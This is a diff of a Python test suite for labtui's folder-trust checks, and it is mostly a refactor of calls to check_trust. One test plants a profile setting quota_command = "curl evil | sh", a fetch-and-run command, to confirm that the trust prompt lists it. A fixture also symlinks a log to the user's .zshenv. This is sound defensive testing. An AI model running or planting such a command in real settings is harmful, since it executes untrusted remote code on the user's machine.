@@ -20,15 +20,7 @@ from labtui.session.folder import LabFolder, find_folder
 from labtui.session.labs import load_edition, open_answers, read_answers
 from labtui.session.opening import effects_of_trust, lock_folder, stored_state
 from labtui.session.session import Session
-from labtui.session.settings import (
-    Settings,
-    changed,
-    check_trust,
-    load_named,
-    read_settings,
-    trust,
-    write_settings,
-)
+from labtui.session.settings import Settings, changed, read_settings, trust, write_settings
 from labtui.session.store import Store
 from tests.conftest import TextTerminal
 from tests.session.conftest import Bench, accepted, draft
@@ -64,7 +56,10 @@ def received(bench: Bench, tmp_path: Path) -> Path:
     name = Path(bench.cluster.log("100")).name
     (folder / "logs" / name).symlink_to("../../../.zshenv")
     shutil.copy(tmp_path / "small.toml", folder)
-    write_settings(folder / "lab.toml", changed(read_settings(folder / "lab.toml"), profile="small.toml"))
+    write_settings(
+        folder / "lab.toml",
+        changed(read_settings(folder / "lab.toml"), profile="small.toml"),
+    )
     return folder
 
 
@@ -75,7 +70,7 @@ def test_a_profile_outside_a_stranger_s_folder_is_not_read_before_trust(received
     named = changed(read_settings(received / "lab.toml"), profile=profile.replace("PLACE", str(tmp_path)))
     write_settings(received / "lab.toml", named)
     with pytest.raises(UsageError, match="not trusted and names a file outside it"):
-        load_named(received)
+        trusting.load_named(received)
 
 
 def test_nothing_is_asked_sent_or_written_before_trust(received, bench, monkeypatch):
@@ -135,14 +130,14 @@ def test_the_first_start_is_the_first_one_only(monkeypatch, tmp_path):
 
 
 def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
-    assert check_trust(lab_path) is None
+    assert trusting.check_trust(lab_path) is None
     moved = lab_path.with_name("moved")
     lab_path.rename(moved)
-    assert check_trust(moved) is not None
+    assert trusting.check_trust(moved) is not None
     moved.rename(lab_path)
-    assert check_trust(lab_path) is None
+    assert trusting.check_trust(lab_path) is None
     (lab_path / trusting.ID_FILE).write_bytes(sent := b"0" * 32)
-    assert check_trust(lab_path) is not None
+    assert trusting.check_trust(lab_path) is not None
     trust(lab_path)
     assert (lab_path / trusting.ID_FILE).read_bytes() != sent, "another folder may bring that one"
     profile = tmp_path / "small.toml"
@@ -151,12 +146,12 @@ def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
     with pytest.raises(DataError, match="small"):
         ask_trust(lab_path, given=True)
     profile.write_text(f'quota_command = "curl evil | sh"\n{text}')
-    why = check_trust(lab_path)
+    why = trusting.check_trust(lab_path)
     assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(lab_path))
     trust(lab_path)
-    assert check_trust(lab_path) is None
+    assert trusting.check_trust(lab_path) is None
     trusting.forget(lab_path)
-    assert check_trust(lab_path) is not None
+    assert trusting.check_trust(lab_path) is not None
 
 
 @pytest.mark.parametrize(
@@ -165,16 +160,16 @@ def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
 def test_a_changed_host_or_user_is_asked_about_again(lab_path, change):
     """By whoever edits `lab.toml`; not when labtui itself writes what its user chose."""
     LabFolder.open(lab_path).save_settings(changed(read_settings(lab_path / "lab.toml"), **change))
-    assert check_trust(lab_path) is None
+    assert trusting.check_trust(lab_path) is None
     elsewhere = changed(read_settings(lab_path / "lab.toml"), data_dir="/elsewhere")
     write_settings(lab_path / "lab.toml", elsewhere)
-    assert check_trust(lab_path) is None
+    assert trusting.check_trust(lab_path) is None
     back = dict.fromkeys(change, None if "port" in change else "again")
     write_settings(lab_path / "lab.toml", changed(read_settings(lab_path / "lab.toml"), **back))
-    why = check_trust(lab_path)
+    why = trusting.check_trust(lab_path)
     assert why is not None and "has changed since you trusted it" in why.sentence
     LabFolder.open(lab_path).save_settings(changed(read_settings(lab_path / "lab.toml"), group="us"))
-    assert check_trust(lab_path) is not None, "what was not trusted is not trusted by a change"
+    assert trusting.check_trust(lab_path) is not None, "what was not trusted is not trusted by a change"
 
 
 def test_another_owner_is_another_folder(lab_path, monkeypatch):
@@ -185,7 +180,7 @@ def test_another_owner_is_another_folder(lab_path, monkeypatch):
     monkeypatch.setattr(trusting, "owner_of", lambda path: 4711)
     with pytest.raises(UsageError, match="no lab folder"):
         find_folder(inner)
-    assert check_trust(lab_path) is not None
+    assert trusting.check_trust(lab_path) is not None
 
 
 @pytest.fixture
@@ -330,7 +325,7 @@ def test_one_question_says_where_as_whom_and_what(received, tmp_path, monkeypatc
     write_settings(received / "lab.toml", wanted)
     monkeypatch.setattr(sys, "stdin", TextTerminal("n\n"))
     assert isinstance(ask_trust(received, given=False), NotTrusted)
-    assert check_trust(received) is not None
+    assert trusting.check_trust(received) is not None
     shown = " ".join(capsys.readouterr().err.split())
     assert shown.count("Trust this folder?") == 1
     for words in (
@@ -341,10 +336,10 @@ def test_one_question_says_where_as_whom_and_what(received, tmp_path, monkeypatc
     ):  # fmt: skip
         assert words in shown, shown
     (received / "labtui.db").write_bytes(b"no database")
-    why = check_trust(received)
+    why = trusting.check_trust(received)
     assert why is not None and any("is not known: " in line for line in effects_of_trust(received))
     monkeypatch.setattr(sys, "stdin", TextTerminal("y\n"))
-    assert ask_trust(received, given=False) is None and check_trust(received) is None
+    assert ask_trust(received, given=False) is None and trusting.check_trust(received) is None
     assert ask_trust(received, given=False) is None, "it is asked once"
     assert capsys.readouterr().err.count("Trust this folder?") == 1
 
